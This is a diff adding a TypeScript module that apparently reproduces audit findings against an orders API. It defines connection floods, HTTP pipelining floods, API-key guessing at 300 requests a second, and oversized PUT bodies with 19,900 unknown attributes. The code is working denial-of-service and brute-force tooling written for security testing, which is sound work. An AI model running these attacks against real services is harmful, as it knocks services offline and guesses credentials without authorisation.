@@ -1,0 +1,80 @@
+import { once } from 'node:events';
+import type { Arm, Attack } from './attack.ts';
+import { signed } from './attack.ts';
+
+const smallest = 'GET / HTTP/1.1\r\nHost: a\r\n\r\n'.repeat(2_000);
+const names = Array.from({ length: 19_900 }, (_, place) => `"n${String(place)}":1`).join(',');
+
+/** Sends a request over a connection five times at once, and again whenever one is answered. */
+async function keepFive(arm: Arm, request: string): Promise<void> {
+  const socket = arm.connect();
+  socket.on('data', (chunk: Buffer) => {
+    for (const [, status] of chunk.toString('latin1').matchAll(/HTTP\/1\.1 (\d{3}) /g)) {
+      arm.count(Number(status));
+      socket.write(request);
+    }
+  });
+  socket.resume().write(request.repeat(5));
+  await once(socket, 'close');
+}
+
+const listWith = (header: string): string =>
+  `GET /api/orders/mine?per_page=300 HTTP/1.1\r\nHost: a\r\n${header}\r\n\r\n`;
+
+/** What one client can do by numbers alone: of connections, of requests, of keys and tokens, of names. */
+export const attacksOfCrowds: readonly Attack[] = [
+  {
+    finding: '14',
+    does: '240 connections without a key, each with five requests at once',
+    strike: (arm) => arm.crowd(240, () => keepFive(arm, listWith('Accept: */*'))),
+  },
+  {
+    finding: '14',
+    does: '240 connections with a key, each with five requests for the longest list at once',
+    carts: 300,
+    strike: (arm) =>
+      arm.crowd(240, () => keepFive(arm, listWith(`X-ServiceAPIKey: ${arm.target.key}`))),
+  },
+  {
+    finding: '14',
+    does: '50 connections, over each 2,000 of the smallest requests at once',
+    strike: (arm) =>
+      arm.crowd(50, async () => {
+        const socket = arm.connect();
+        arm.count(0);
+        socket.resume().write(smallest);
+        await once(socket, 'close');
+      }),
+  },
+  {
+    finding: '14',
+    does: '64 connections read 64 orders, each with the token of its own',
+    carts: 64,
+    strike: (arm) =>
+      arm.crowd(64, (place) => {
+        const { number, token } = arm.target.carts[place % arm.target.carts.length] ?? {};
+        return arm.ask('GET', `/api/orders/${String(number)}?order_token=${String(token)}`);
+      }),
+  },
+  {
+    finding: '14',
+    does: 'made-up keys, 300 a second',
+    strike: (arm) =>
+      arm.pace(300, (place) =>
+        arm.ask('GET', '/api/orders/mine', {
+          headers: { 'x-serviceapikey': `made-up-${String(place)}` },
+        }),
+      ),
+  },
+  {
+    finding: '3',
+    does: '19,900 attributes that nobody knows, 20 times a second',
+    strike: (arm) =>
+      arm.pace(20, () =>
+        arm.ask('PUT', `/api/orders/${arm.target.order}`, {
+          headers: signed(arm),
+          body: `{"order":{${names}}}`,
+        }),
+      ),
+  },
+];
